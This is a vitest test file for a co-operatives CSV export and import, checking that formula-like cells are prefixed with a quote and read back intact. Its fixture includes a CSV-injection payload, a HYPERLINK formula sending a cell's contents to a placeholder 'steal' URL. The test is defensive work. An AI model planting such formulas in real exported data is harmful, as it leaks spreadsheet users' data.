import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { coopsToCsv } from "./coops-csv";
import { importCoopsCsv } from "./coops-csv-import";
import type { CoopView } from "./types";

const coop = (name: string, sector: string): CoopView => ({
  id: `m-${name.length}`,
  name,
  sector,
  legalForm: "",
  ownershipType: "",
  status: "active",
  origin: "manual",
  turnover: null,
  employees: { value: 3, year: 2023, source: "@ the AGM" },
  members: null,
});

const HYPERLINK = '=HYPERLINK("https://example.com/steal?"&A1,"Click")';

describe("coopsToCsv", () => {
  it("neutralises cells a spreadsheet would run as a formula, as the server's CSV does", () => {
    const csv = coopsToCsv([coop(HYPERLINK, "+Retail"), coop("Moor Bakers", "-\tFood")]);
    const [comment, header, ...rows] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), {
      skipEmptyLines: true,
    }).data;
    expect(comment).toEqual(["# Contains data from Co-operatives UK (ODC-By 1.0)"]);
    const column = (name: string) => header!.indexOf(name);
    expect(rows.map((row) => row[column("name")])).toEqual([`'${HYPERLINK}`, "Moor Bakers"]);
    expect(rows.map((row) => row[column("sector")])).toEqual(["'+Retail", "'-\tFood"]);
    expect(rows.map((row) => row[column("employees_source")])).toEqual(["'@ the AGM", "'@ the AGM"]);
    expect(csv.startsWith("\uFEFF# ")).toBe(true);
  });

  it("reads its neutralised cells back as they were", () => {
    const coops = [coop(HYPERLINK, "+Retail")];
    const result = importCoopsCsv(coopsToCsv(coops), []);
    expect(result.errors).toEqual([]);
    expect(result.coops[0]).toMatchObject({
      name: HYPERLINK,
      sector: "+Retail",
      employees: { value: 3, year: 2023, source: "@ the AGM" },
    });
  });
});
